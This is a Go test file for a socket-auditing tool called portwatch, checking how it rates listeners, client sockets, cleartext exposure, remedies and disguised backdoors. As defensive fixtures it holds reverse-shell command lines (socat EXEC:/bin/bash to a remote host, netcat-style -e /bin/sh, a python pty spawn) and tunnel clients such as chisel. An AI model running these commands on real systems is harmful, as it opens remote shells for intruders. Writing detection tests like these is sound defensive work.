package assess

import (
	"strings"
	"testing"

	"github.com/portwatch/portwatch/sockets"
)

// packaged is a process whose executable dpkg proved.
func packaged(p *sockets.Process, pkg, version, unit string) *sockets.Process {
	p.Identity = &sockets.Identity{Proof: sockets.ProofPackage, Manager: "dpkg", Package: pkg, Version: version,
		Reason: "installed by " + pkg + " " + version}
	p.Unit = unit
	return p
}

func judgeOne(t *testing.T, s sockets.Socket) *Verdict {
	t.Helper()
	snap := &sockets.Snapshot{Sockets: []sockets.Socket{s}}
	return Assess(snap, testKnowledge(t)).Verdicts[0]
}

// An unconnected UDP socket on an ephemeral port held by a recognised
// daemon is its client socket: shown as such, never a HIGH unknown
// listener; the same socket held by a shell or an unproven program is.
func TestDaemonsClientSocketIsNotAListener(t *testing.T) {
	squid := packaged(proc(300, "/usr/sbin/squid", "/usr/sbin/squid --foreground -sYC", "proxy", 13), "squid", "5.7-2", "squid.service")
	radius := packaged(proc(301, "/usr/sbin/freeradius", "/usr/sbin/freeradius -f", "freerad", 110), "freeradius", "3.2.1", "freeradius.service")
	for _, p := range []*sockets.Process{squid, radius} {
		s := sock(sockets.UDP, "0.0.0.0", 41000, "0.0.0.0", 0, sockets.StateUnconnected, 9001)
		s.Owners, s.OwnerStatus = []*sockets.Process{p}, sockets.OwnerKnown
		v := judgeOne(t, s)
		if v.Role != RoleClientSocket || v.Risk > RiskLow || hasCode(v.Findings, CodeUnknownListener) != nil || hasCode(v.Findings, CodeClientSocket) == nil || v.Reachable() {
			t.Errorf("%s's client socket: role %s risk %s %v", p.Name, v.Role, v.Risk, v.Findings)
		}
	}
	unowned := proc(302, "/usr/local/sbin/squid", "/usr/local/sbin/squid", "root", 0)
	unowned.Identity = &sockets.Identity{Proof: sockets.ProofUnowned, Reason: "no installed package lists /usr/local/sbin/squid (dpkg)"}
	sh := proc(303, "/usr/bin/bash", "bash", "root", 0)
	for _, p := range []*sockets.Process{unowned, sh} {
		s := sock(sockets.UDP, "0.0.0.0", 41000, "0.0.0.0", 0, sockets.StateUnconnected, 9002)
		s.Owners, s.OwnerStatus = []*sockets.Process{p}, sockets.OwnerKnown
		if v := judgeOne(t, s); v.Role != RoleListener || v.Risk != RiskHigh {
			t.Errorf("%s's UDP socket: role %s risk %s %v", p.Exe, v.Role, v.Risk, v.Findings)
		}
	}
}

// The backdoor-port finding reads the owner: the packaged IRC daemon
// under its own account on 6667 is not a backdoor; a python there is.
func TestBackdoorPortReadsTheOwner(t *testing.T) {
	ircd := packaged(proc(310, "/usr/sbin/ngircd", "/usr/sbin/ngircd --nodaemon", "irc", 39), "ngircd", "26.1-1", "ngircd.service")
	v := judgeOne(t, owned("0.0.0.0", 6667, ircd))
	if f := hasCode(v.Findings, CodeBackdoorPort); f != nil {
		t.Errorf("packaged ngircd on 6667: %v", f)
	}
	// Nor is the port's botnet fame its risk: an IRC server on the
	// network is MEDIUM, like any chat server meant to be reached.
	if v.Risk != RiskMedium || strings.Contains(v.Service.Note, "Unexpected on a server") {
		t.Errorf("packaged ngircd on 6667: risk %s, note %q", v.Risk, v.Service.Note)
	}
	py := proc(311, "/usr/bin/python3.11", "python3 /srv/x.py", "www-data", 33)
	v = judgeOne(t, owned("0.0.0.0", 6667, py))
	if f := hasCode(v.Findings, CodeBackdoorPort); f == nil || f.Severity != RiskHigh {
		t.Errorf("python on 6667: %v", v.Findings)
	}
}

// Cleartext is a finding only where it crosses a network: not for a
// listener on loopback, nor a connection between loopback addresses.
func TestCleartextOnlyBeyondLoopback(t *testing.T) {
	uwsgi := proc(320, "/usr/bin/uwsgi-core", "uwsgi --http 127.0.0.1:8000", "www-data", 33)
	if v := judgeOne(t, owned("127.0.0.1", 8000, uwsgi)); hasCode(v.Findings, CodeCleartext) != nil {
		t.Errorf("uwsgi on loopback: %v", v.Findings)
	}
	c := sock(sockets.TCP, "127.0.0.1", 8000, "127.0.0.1", 50000, sockets.StateEstablished, 321)
	c.Direction = sockets.Inbound
	if v := judgeOne(t, c); hasCode(v.Findings, CodeCleartext) != nil {
		t.Errorf("a loopback connection: %v", v.Findings)
	}
	if v := judgeOne(t, owned("0.0.0.0", 8000, uwsgi)); hasCode(v.Findings, CodeCleartext) == nil {
		t.Errorf("uwsgi on all interfaces: %v", v.Findings)
	}
}

// A service meant to be reached is told to restrict who reaches it, never
// to bind to loopback; a daemon's POP3 and IMAP are rated alike.
func TestServicesMeantToBeReached(t *testing.T) {
	openvpn := packaged(proc(330, "/usr/sbin/openvpn", "/usr/sbin/openvpn --config server.conf", "nobody", 65534), "openvpn", "2.6.3-1", "openvpn@server.service")
	s := owned("0.0.0.0", 1194, openvpn)
	s.Proto = sockets.UDP
	s.State = sockets.StateUnconnected
	v := judgeOne(t, s)
	for _, f := range v.Findings {
		if strings.Contains(f.Text, "127.0.0.1") || strings.Contains(f.Text, "loopback") {
			t.Errorf("OpenVPN told to bind to loopback: %s", f.Text)
		}
	}
	if f := hasCode(v.Findings, CodePublicExposed); f == nil || !strings.Contains(f.Text, "restrict who may reach it") || !strings.Contains(f.Remedy, "nft") {
		t.Errorf("OpenVPN: %v", v.Findings)
	}
	dovecot := packaged(proc(331, "/usr/sbin/dovecot", "/usr/sbin/dovecot -F", "root", 0), "dovecot-core", "1:2.3.19", "dovecot.service")
	pop, imap := judgeOne(t, owned("0.0.0.0", 110, dovecot)), judgeOne(t, owned("0.0.0.0", 143, dovecot))
	if pop.Risk != imap.Risk {
		t.Errorf("dovecot's POP3 %s, IMAP %s", pop.Risk, imap.Risk)
	}
}

// Remedies come from what portwatch knows: the daemon's bind setting, the
// unit, or a firewall rule.
func TestRemedies(t *testing.T) {
	redis := packaged(proc(340, "/usr/bin/redis-check-rdb", "/usr/bin/redis-server *:6379", "redis", 106), "redis-tools", "5:7.0.15-1", "redis-server.service")
	v := judgeOne(t, owned("0.0.0.0", 6379, redis))
	if f := hasCode(v.Findings, CodeDBExposed); f == nil || !strings.Contains(f.Remedy, "bind 127.0.0.1") || !strings.Contains(f.Remedy, "redis-server.service") {
		t.Errorf("redis exposed: %+v", v.Findings)
	}
	odd := proc(341, "/opt/x/agent", "/opt/x/agent", "root", 0)
	odd.Unit = "x-agent.service"
	v = judgeOne(t, owned("0.0.0.0", 31337, odd))
	if f := hasCode(v.Findings, CodeBackdoorPort); f == nil || !strings.Contains(f.Remedy, "systemctl disable --now x-agent.service") {
		t.Errorf("backdoor port: %+v", v.Findings)
	}
}

// A kernel thread's name on a process with an executable, a netcat-like
// -e, and inline code are findings of their own, on any port.
func TestDisguisesByName(t *testing.T) {
	kw := proc(350, "/var/lib/.x/kworker", "[kworker/0:2]", "root", 0)
	kw.Name = "kworker/0:2"
	ncat := proc(351, "/usr/sbin/nginx", "nginx -lvp 8080 -e /bin/sh", "www-data", 33)
	ncat.Identity = &sockets.Identity{Proof: sockets.ProofUnowned, Reason: "no installed package lists /usr/sbin/nginx (dpkg)"}
	socat := proc(352, "/usr/bin/socat", "socat TCP:10.0.0.9:443 EXEC:/bin/bash,pty,stderr", "root", 0)
	perl := proc(353, "/usr/bin/perl", "perl -e use Socket;...", "root", 0)
	cases := []struct {
		p    *sockets.Process
		code string
	}{{kw, CodeKernelName}, {ncat, CodeExecTool}, {ncat, CodeUnownedExe}, {socat, CodeExecTool}, {perl, CodeInlineCode}}
	for _, c := range cases {
		conn := sock(sockets.TCP, "10.0.0.5", 50000, "10.0.0.9", 443, sockets.StateEstablished, 360)
		conn.Direction, conn.Owners, conn.OwnerStatus = sockets.Outbound, []*sockets.Process{c.p}, sockets.OwnerKnown
		listener := owned("0.0.0.0", 8080, c.p)
		for _, s := range []sockets.Socket{conn, listener} {
			v := judgeOne(t, s)
			f := hasCode(v.Findings, c.code)
			if f == nil || (s.IsListening() && f.Severity != RiskHigh) {
				t.Errorf("%s (%s): want %s, got %v", c.p.Cmdline, s.State, c.code, v.Findings)
			}
		}
	}
	// A script is not inline code, and "-e" naming no shell is no exec.
	for _, cmdline := range []string{"python3 /srv/app.py -c prod.conf", "grep -e foo"} {
		p := proc(370, "/usr/bin/python3.11", cmdline, "app", 1000)
		if _, _, ok := inlineCode(p); ok || execWords(p) != "" {
			t.Errorf("%q judged inline or exec", cmdline)
		}
	}
}

// A program no package installed, copied into a home or a hidden
// directory, holding a connection (a tunnel's client) is caught, with a
// package database or without; the same in /usr/local is not.
func TestUnpackagedProgramInAHomeIsCaught(t *testing.T) {
	unowned := func(exe string, manager string) *sockets.Process {
		p := proc(380, exe, exe+" client 203.0.113.7:443 R:socks", "root", 0)
		p.Identity = &sockets.Identity{Proof: sockets.ProofUnowned, Manager: manager, Reason: "no installed package lists " + exe + " (dpkg)"}
		return p
	}
	conn := func(p *sockets.Process) sockets.Socket {
		s := sock(sockets.TCP, "10.0.0.5", 50000, "203.0.113.7", 443, sockets.StateEstablished, 381)
		s.Direction, s.Owners, s.OwnerStatus = sockets.Outbound, []*sockets.Process{p}, sockets.OwnerKnown
		return s
	}
	for _, exe := range []string{"/root/chisel", "/home/u/.cache/x/agent", "/var/www/html/up/frpc"} {
		v := judgeOne(t, conn(unowned(exe, "dpkg")))
		if exe == "/root/chisel" {
			v = judgeOne(t, conn(unowned(exe, "")))
		}
		if f := hasCode(v.Findings, CodeUnpackagedExe); f == nil || v.Risk < RiskMedium {
			t.Errorf("%s: risk %s %v", exe, v.Risk, v.Findings)
		}
	}
	for _, p := range []*sockets.Process{unowned("/usr/local/bin/chisel", "dpkg")} {
		if v := judgeOne(t, conn(p)); hasCode(v.Findings, CodeUnpackagedExe) != nil {
			t.Errorf("%s (manager %q): %v", p.Exe, p.Identity.Manager, v.Findings)
		}
	}
}

// A socket-activated Python service reading its connection as stdin is
// socket-stdio, not a reverse shell; python -c on the same is.
func TestSocketActivatedInterpreterIsNoReverseShell(t *testing.T) {
	svc := packaged(proc(390, "/usr/bin/python3.11", "/usr/bin/python3 /usr/lib/foo/handler.py", "foo", 1001), "python3.11-minimal", "3.11.2-6", "foo@1-10.0.0.5:22-10.0.0.9:50000.service")
	inline := proc(391, "/usr/bin/python3.11", "python3 -c import pty;pty.spawn('/bin/sh')", "www-data", 33)
	for _, c := range []struct {
		p    *sockets.Process
		code string
	}{{svc, CodeSocketStdio}, {inline, CodeReverseShell}} {
		s := sock(sockets.TCP, "10.0.0.5", 22, "10.0.0.9", 50000, sockets.StateEstablished, 392)
		s.Direction, s.Owners, s.OwnerStatus = sockets.Inbound, []*sockets.Process{c.p}, sockets.OwnerKnown
		c.p.Stdio = [3]uint64{392, 392, 0}
		if v := judgeOne(t, s); hasCode(v.Findings, c.code) == nil {
			t.Errorf("%s: want %s, got %v", c.p.Cmdline, c.code, v.Findings)
		}
	}
}
